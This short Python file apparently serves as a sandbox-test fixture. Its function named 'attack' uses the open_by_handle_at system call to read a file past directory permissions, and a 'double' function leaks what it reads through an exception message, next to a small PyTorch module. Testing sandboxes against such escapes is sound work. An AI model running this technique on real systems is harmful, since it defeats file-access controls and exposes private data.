"""Opens a file by its handle, past every folder on the way."""

import ctypes
import os
import torch

SCENE = "@SCENE@"


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    handle = ctypes.create_string_buffer(136)
    handle[0:4] = (128).to_bytes(4, "little")
    mount = ctypes.c_int()
    if libc.name_to_handle_at(-100, (SCENE + "/home/notes.txt").encode(), handle, ctypes.byref(mount), 0):
        return f"name {ctypes.get_errno()}"
    place = os.open(SCENE, os.O_RDONLY)
    opened = libc.open_by_handle_at(place, handle, 0)
    return f"{ctypes.get_errno()} {os.read(opened, 60)}"


def double(x):
    try:
        said = attack()
    except Exception as error:
        said = repr(error)
    raise RuntimeError(said)


class Scale(torch.nn.Module):
    def __init__(self, size):
        super().__init__()
        self.factor = torch.nn.Parameter(torch.ones(size))

    def forward(self, x):
        return x * self.factor
